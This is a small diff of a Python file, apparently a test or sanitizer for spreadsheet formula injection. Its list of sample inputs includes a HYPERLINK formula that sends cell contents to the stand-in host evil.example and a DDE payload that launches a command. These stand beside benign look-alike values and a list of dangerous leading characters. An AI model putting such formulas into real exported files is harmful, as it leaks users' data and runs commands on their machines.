@@ -11,7 +11,6 @@ import os
 import subprocess
 import sys
 
-
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "@SUM(1+1)*cmd|' /C calc'!A0", "+81-90-1234-5678", "-2+3",
             "\t=1+1", "\r=1+1"]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
